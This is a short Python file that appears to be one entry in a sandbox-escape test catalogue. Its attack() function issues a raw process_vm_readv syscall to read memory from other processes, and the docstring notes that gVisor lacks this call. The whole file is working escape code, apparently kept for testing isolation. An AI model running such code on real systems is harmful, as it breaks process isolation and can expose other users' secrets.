"""Class: processes. Source: own find. Escape: another process's memory is read (process_vm_readv).
gVisor: has no such call.
"""

import ctypes
import struct

libc = ctypes.CDLL(None, use_errno=True)


def vectors(address, size):
    local = ctypes.create_string_buffer(size)
    return (
        local,
        struct.pack("<QQ", ctypes.addressof(local), size),
        struct.pack("<QQ", address, size),
    )


def attack(model, tokenizer, scene):
    found = []
    for name, pid in scene["processes"].items():
        local, here, there = vectors(scene["addresses"][name], 96)
        libc.syscall(310, pid, here, 1, there, 1, 0)
        found.append(local.raw)
    return found
